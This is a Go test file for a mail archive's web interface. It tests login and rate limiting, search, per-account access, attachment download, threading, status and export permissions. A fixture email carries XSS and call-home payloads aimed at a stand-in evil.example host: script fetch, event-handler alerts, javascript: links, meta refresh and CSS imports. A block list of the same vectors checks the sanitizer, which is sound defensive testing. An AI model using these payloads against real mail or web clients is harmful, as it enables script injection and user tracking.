package web

import (
	"context"
	"encoding/base64"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"mailvault/indexer"
	"mailvault/service"
)

// hostileHTML is a message whose HTML tries everything a mail can to run
// code or call home.
const hostileHTML = "From: mallory@evil.example\r\nTo: a@example.org\r\nSubject: hostile html\r\n" +
	"Date: Mon, 4 Mar 2024 10:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
	`<html><head><meta http-equiv="refresh" content="0;url=http://evil.example/r"><style>@import url(http://evil.example/i.css); body{background:url(http://evil.example/bg.png)}</style>` +
	`<script>fetch("http://evil.example/s")</script></head><body onload="alert(1)">` +
	`<p>Dear customer <b>click</b></p><img src="http://evil.example/pixel.gif" width=1 height=1>` +
	`<a href="javascript:alert(2)">js link</a><svg><script>alert(3)</script><animate onbegin="alert(4)"/></svg>` +
	`<form action="http://evil.example/f"><input name=p></form><iframe src="http://evil.example/frame"></iframe>` +
	`<div style="background:url(http://evil.example/div.png)">styled</div><img src=x onerror="alert(5)"></body></html>` + "\r\n"

// login returns a client with a session for name.
func (f *apiFixture) login(t *testing.T, name, password string) (*http.Client, *http.Response) {
	t.Helper()
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar}
	resp, err := c.PostForm(f.srv.URL+"/login", url.Values{"name": {name}, "password": {password}, "next": {"/status"}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	return c, resp
}

func getPage(t *testing.T, c *http.Client, u string) (int, string, http.Header) {
	t.Helper()
	resp, err := c.Get(u)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), resp.Header
}

func TestUIPages(t *testing.T) {
	f := newAPIFixture(t)
	ctx := context.Background()
	// The hostile message, in account a.
	a := f.archive
	res, err := a.Ingest(ctx, []indexer.Item{{Account: "a", Mailbox: "INBOX", UIDValidity: 5, UID: 7, Raw: []byte(hostileHTML)}})
	if err != nil || len(res) != 1 {
		t.Fatal(err)
	}
	a.Flush(ctx)
	hostile := sha([]byte(hostileHTML))

	// Not logged in: every page sends to the login page, and back.
	noJar := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := noJar.Get(f.srv.URL + "/message/" + hostile)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusSeeOther || resp.Header.Get("Location") != "/login?next=%2Fmessage%2F"+hostile {
		t.Errorf("page without a session: %d to %q", resp.StatusCode, resp.Header.Get("Location"))
	}

	ann, resp := f.login(t, "ann", "correct horse")
	if resp.Request.URL.Path != "/status" {
		t.Errorf("after login: at %s, want /status (the next page)", resp.Request.URL)
	}
	code, body, hdr := getPage(t, ann, f.srv.URL+"/?q=budget")
	if code != 200 || !strings.Contains(body, "quarterly figures") || strings.Contains(body, "secret merger") || !strings.Contains(body, ";UIDVALIDITY=5/;UID=1") {
		t.Errorf("search page: %d\n%s", code, body)
	}
	if !strings.Contains(body, `id="facets"`) || !strings.Contains(body, "a / INBOX (1)") || strings.Contains(body, "b / INBOX") ||
		!strings.Contains(body, `<svg width=`) || !strings.Contains(body, "2024-03: 1") {
		t.Errorf("facets and timeline of a user of a:\n%s", body)
	}
	if csp := hdr.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || strings.Contains(csp, "script-src") {
		t.Errorf("search page CSP %q", csp)
	}
	code, body, _ = getPage(t, ann, f.srv.URL+"/?q="+url.QueryEscape(`subject:"unclosed`))
	if code != 422 || !strings.Contains(body, "unterminated quote (at offset 8)") || !strings.Contains(body, `value="subject:&#34;unclosed"`) {
		t.Errorf("bad query: %d; want the error with its offset and the query kept\n%s", code, body)
	}
	code, body, _ = getPage(t, ann, f.srv.URL+"/?syntax=imap&q="+url.QueryEscape(`SUBJECT "figures"`))
	if code != 200 || !strings.Contains(body, "quarterly figures") || !strings.Contains(body, `value="imap" checked`) {
		t.Errorf("IMAP search page: %d\n%s", code, body)
	}
	// The syntax lives in the URL, not in a cookie: the next plain page is
	// the default syntax again (TestSearchPageState tests the rest).
	if _, body, _ = getPage(t, ann, f.srv.URL+"/"); strings.Contains(body, `value="imap" checked`) {
		t.Error("the syntax switch outlived its URL")
	}
	// Another account's message is a 404 page, as an unknown one.
	for _, id := range []string{f.onlyB, strings.Repeat("ab", 32)} {
		if code, body, _ := getPage(t, ann, f.srv.URL+"/message/"+id); code != 404 || !strings.Contains(body, "No such message") {
			t.Errorf("message %s of another account: %d", id, code)
		}
		if code, _, _ := getPage(t, ann, f.srv.URL+"/message/"+id+"/raw"); code != 404 {
			t.Errorf("raw %s of another account: %d", id, code)
		}
	}
	code, body, _ = getPage(t, ann, f.srv.URL+"/message/"+hostile)
	if code != 200 || !strings.Contains(body, `<iframe class="html" sandbox`) || !strings.Contains(body, hostile) {
		t.Errorf("message page: %d\n%s", code, body)
	}
	code, body, hdr = getPage(t, ann, f.srv.URL+"/message/"+hostile+"/html")
	csp := hdr.Get("Content-Security-Policy")
	if code != 200 || !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "sandbox") || strings.Contains(csp, "http:") {
		t.Errorf("html: %d, CSP %q", code, csp)
	}
	for _, bad := range []string{"<script", "onload", "onerror", "onbegin", "javascript:", "<form", "<iframe", "refresh", "@import", "evil.example/bg", "<svg"} {
		if strings.Contains(strings.ToLower(body), bad) {
			t.Errorf("sanitized HTML still has %q:\n%s", bad, body)
		}
	}
	if !strings.Contains(body, "Dear customer") {
		t.Errorf("sanitized HTML lost the text: %s", body)
	}
	if _, _, hdr = getPage(t, ann, f.srv.URL+"/message/"+hostile+"/html?remote=1"); !strings.Contains(hdr.Get("Content-Security-Policy"), "img-src data: https: http:") {
		t.Errorf("remote content asked for: CSP %q", hdr.Get("Content-Security-Policy"))
	}
	code, raw, _ := getPage(t, ann, f.srv.URL+"/message/"+hostile+"/raw")
	if code != 200 || sha([]byte(raw)) != hostile {
		t.Errorf("raw download: %d, sha256 %s", code, sha([]byte(raw)))
	}
	code, body, _ = getPage(t, ann, f.srv.URL+"/status")
	if code != 200 || !strings.Contains(body, "<td>a</td>") || strings.Contains(body, "<td>b</td>") {
		t.Errorf("status page: %d\n%s", code, body)
	}
	// Logging out ends the session.
	resp, err = ann.PostForm(f.srv.URL+"/logout", nil)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.Request.URL.Path != "/login" {
		t.Errorf("after logout: at %s", resp.Request.URL)
	}
}

func TestUILoginRateLimit(t *testing.T) {
	f := newAPIFixture(t)
	codes := []int{}
	for range service.LoginFailures + 1 {
		_, resp := f.login(t, "ann", "wrong password")
		codes = append(codes, resp.StatusCode)
	}
	if codes[0] != 401 || codes[len(codes)-1] != 429 {
		t.Errorf("login failures answered %v; want 401 then 429 after %d", codes, service.LoginFailures)
	}
	// Locked out even with the right password, for the window.
	if _, resp := f.login(t, "ann", "correct horse"); resp.StatusCode != 429 {
		t.Errorf("right password during the lock-out: %d", resp.StatusCode)
	}
}

func TestUIAttachmentDownload(t *testing.T) {
	f := newAPIFixture(t)
	ctx := context.Background()
	pdf := []byte("%PDF-1.4 fake but binary \x00\x01\x02\xff")
	raw := "From: x@example.org\r\nSubject: with a pdf\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=z\r\n\r\n" +
		"--z\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n" +
		"--z\r\nContent-Type: text/html; name=\"evil.html\"\r\nContent-Disposition: attachment; filename=\"evil.html\"\r\n\r\n<script>alert(1)</script>\r\n" +
		"--z\r\nContent-Type: application/pdf; name=\"Q3 report.pdf\"\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		base64.StdEncoding.EncodeToString(pdf) + "\r\n--z--\r\n"
	if _, err := f.archive.Ingest(ctx, []indexer.Item{{Account: "a", Mailbox: "INBOX", UIDValidity: 5, UID: 9, Raw: []byte(raw)}}); err != nil {
		t.Fatal(err)
	}
	id := sha([]byte(raw))
	ann, _ := f.login(t, "ann", "correct horse")
	code, body, hdr := getPage(t, ann, f.srv.URL+"/message/"+id+"/attachment/1")
	if code != 200 || body != string(pdf) || hdr.Get("Content-Type") != "application/octet-stream" ||
		hdr.Get("Content-Disposition") != "attachment; filename*=UTF-8''Q3%20report.pdf" {
		t.Errorf("pdf attachment: %d %q %v", code, body, hdr)
	}
	code, body, hdr = getPage(t, ann, f.srv.URL+"/message/"+id+"/attachment/0")
	if code != 200 || !strings.Contains(body, "<script>") || hdr.Get("Content-Type") != "application/octet-stream" || !strings.HasPrefix(hdr.Get("Content-Disposition"), "attachment") {
		t.Errorf("an HTML attachment must download, never render: %d %v", code, hdr)
	}
	if code, _, _ := getPage(t, ann, f.srv.URL+"/message/"+id+"/attachment/2"); code != 404 {
		t.Errorf("attachment 2 of 2: %d", code)
	}
	if code, body, _ := getPage(t, ann, f.srv.URL+"/message/"+id); code != 200 || !strings.Contains(body, "Q3 report.pdf") {
		t.Errorf("message page lists attachments: %d", code)
	}
}

func TestSnippet(t *testing.T) {
	for _, tt := range []struct {
		text  string
		terms []string
		want  string
	}{
		{"The budget for <b>2024</b> is final.", []string{"budget"}, "The <mark>budget</mark> for &lt;b&gt;2024&lt;/b&gt; is final."},
		{"nothing here", []string{"budget"}, "nothing here"},
		{strings.Repeat("word ", 100) + "the Budget line " + strings.Repeat("tail ", 100), []string{"budget"}, "<mark>Budget</mark>"},
	} {
		got := string(snippet(tt.text, tt.terms, 220))
		if !strings.Contains(got, tt.want) {
			t.Errorf("snippet(%q) = %q, want it to contain %q", tt.text[:min(40, len(tt.text))], got, tt.want)
		}
	}
	long := string(snippet(strings.Repeat("word ", 100)+"the Budget line "+strings.Repeat("tail ", 100), []string{"budget"}, 220))
	if !strings.HasPrefix(long, "… ") || !strings.HasSuffix(long, " …") {
		t.Errorf("a long text's snippet is not cut on both sides: %q", long)
	}
}

func TestUIThread(t *testing.T) {
	f := newAPIFixture(t)
	ctx := context.Background()
	mk := func(id, subject, refs string) []byte {
		return []byte("From: x@example.org\r\nSubject: " + subject + "\r\nMessage-ID: <" + id + ">\r\nDate: Tue, 5 Mar 2024 12:00:00 +0000\r\n" + refs + "\r\nbody\r\n")
	}
	parent := mk("p1@example.org", "the parent", "")
	secret := mk("pb@example.org", "b's secret parent", "")
	child := mk("c1@example.org", "Re: the parent", "In-Reply-To: <p1@example.org>\r\nReferences: <p0@example.org> <pb@example.org> <p1@example.org>\r\n")
	if _, err := f.archive.Ingest(ctx, []indexer.Item{
		{Account: "a", Mailbox: "INBOX", UIDValidity: 5, UID: 20, Raw: parent},
		{Account: "b", Mailbox: "INBOX", UIDValidity: 5, UID: 20, Raw: secret},
		{Account: "a", Mailbox: "INBOX", UIDValidity: 5, UID: 21, Raw: child},
	}); err != nil {
		t.Fatal(err)
	}
	ann, _ := f.login(t, "ann", "correct horse")
	code, body, _ := getPage(t, ann, f.srv.URL+"/message/"+sha(child))
	if code != 200 || !strings.Contains(body, `<a href="/message/`+sha(parent)+`">the parent</a>`) ||
		!strings.Contains(body, "&lt;p0@example.org&gt; (not in the archive") || strings.Contains(body, "secret parent") ||
		!strings.Contains(body, "&lt;pb@example.org&gt; (not in the archive") {
		t.Errorf("thread of the reply: %d\n%s", code, body)
	}
	f.archive.Flush(ctx)
	code, body, _ = getPage(t, ann, f.srv.URL+"/message/"+sha(parent))
	if code != 200 || !strings.Contains(body, `id="replies"`) || !strings.Contains(body, `<a href="/message/`+sha(child)+`">Re: the parent</a>`) {
		t.Errorf("replies to the parent: %d\n%s", code, body)
	}
	code, body, _ = getPage(t, ann, f.srv.URL+"/?q=body")
	if code != 200 || !strings.Contains(body, "x@example.org (") {
		t.Errorf("sender facet: %d\n%s", code, body)
	}
}

func TestUIStatusProblems(t *testing.T) {
	f := newAPIFixture(t)
	old := time.Now().Add(-3 * time.Hour).UTC().Format(time.RFC3339)
	mb := func(name string, state service.State) service.MailboxStatus {
		return service.MailboxStatus{MailboxStatus: indexer.MailboxStatus{Account: "a", Mailbox: name, Source: "imap"}, State: state}
	}
	inbox, sent, old2 := mb("INBOX", "polling"), mb("Sent", "error"), mb("Old", "catching up")
	inbox.LastSync = old
	sent.Error = `login as "ann": authentication failed`
	old2.ToFetch, old2.Fetched, old2.Rate, old2.ETASeconds, old2.LastSync = 200, 50, 25, 6, time.Now().UTC().Format(time.RFC3339)
	live := &fixedStatus{Service: f.svc, st: &service.Status{Mailboxes: []service.MailboxStatus{inbox, sent, old2}}}
	s, err := New(Options{Archive: live, Users: f.users, DataDir: f.archive.Dir()})
	if err != nil {
		t.Fatal(err)
	}
	srv := httptest.NewServer(s.Handler())
	defer srv.Close()
	f.srv = srv
	ann, _ := f.login(t, "ann", "correct horse")
	code, body, _ := getPage(t, ann, srv.URL+"/status")
	for _, want := range []string{`class="problems"`, "a/INBOX: no sync for 3h0m0s (state polling)", "authentication failed",
		`<progress max="100" value="25"></progress> 50/200 fetched, 25 msg/s, ETA 6s`} {
		if !strings.Contains(body, want) {
			t.Errorf("status page (%d) lacks %q:\n%s", code, want, body)
		}
	}
	if strings.Index(body, "problems") > strings.Index(body, `id="status"`) {
		t.Error("problems are not at the top")
	}
}

// fixedStatus is the real service with a status set by the test: a
// harvest in given states, without servers to put it in them. (Scoping of
// status is the service's, tested there.)
type fixedStatus struct {
	*service.Service
	st *service.Status
}

func (f *fixedStatus) Status(context.Context, service.Caller) (*service.Status, error) {
	return f.st, nil
}

// TestUIExport: admins and auditors get "export these results" on the
// search page and the export runs as a job shown on the status page with a
// download when done; a user gets neither the form nor the export.
func TestUIExport(t *testing.T) {
	f := newAPIFixture(t)
	ann, _ := f.login(t, "ann", "correct horse")
	if _, body, _ := getPage(t, ann, f.srv.URL+"/?q=budget"); strings.Contains(body, `id="export"`) {
		t.Error("a user is offered an export")
	}
	resp, err := ann.PostForm(f.srv.URL+"/export", url.Values{"q": {"budget"}, "syntax": {"human"}})
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("a user's POST /export: %d, want 403", resp.StatusCode)
	}
	aud, _ := f.login(t, "aud", "correct horse")
	if _, body, _ := getPage(t, aud, f.srv.URL+"/?q=budget"); !strings.Contains(body, `id="export"`) {
		t.Fatal("an auditor is not offered an export")
	}
	resp, err = aud.PostForm(f.srv.URL+"/export", url.Values{"q": {"budget"}, "syntax": {"human"}, "format": {"production"}, "dedup": {"global"}})
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || resp.Request.URL.Path != "/status" {
		t.Fatalf("POST /export: %d at %s: %s", resp.StatusCode, resp.Request.URL, b)
	}
	var download string
	for deadline := time.Now().Add(20 * time.Second); download == "" && time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		_, body, _ := getPage(t, aud, f.srv.URL+"/status")
		if i := strings.Index(body, `href="/exports/`); i >= 0 {
			download = body[i+6 : i+6+strings.Index(body[i+6:], `"`)]
		}
	}
	if download == "" {
		_, body, _ := getPage(t, aud, f.srv.URL+"/status")
		t.Fatalf("the status page shows no download for the export: %s", body[strings.Index(body, "<main"):])
	}
	code, body, hdr := getPage(t, aud, f.srv.URL+download)
	if code != 200 || hdr.Get("Content-Type") != "application/zip" || !strings.Contains(body, "manifest.json") {
		t.Errorf("download %s: %d %s", download, code, hdr.Get("Content-Type"))
	}
	if code, _, _ := getPage(t, ann, f.srv.URL+download); code != 404 {
		t.Errorf("a user downloads another's export: %d", code)
	}
	// The export and its download are in the audit trail, with the scope.
	trail, _ := f.users.AuditTrail(context.Background(), 1000)
	var exported, downloaded bool
	for _, e := range trail {
		exported = exported || e.User == "aud" && e.Action == "export" && strings.Contains(e.Detail, `"budget"`)
		downloaded = downloaded || e.User == "aud" && e.Action == "download" && strings.HasPrefix(e.Detail, "export ")
	}
	if !exported || !downloaded {
		t.Errorf("audit trail: export recorded %v, download recorded %v", exported, downloaded)
	}
}
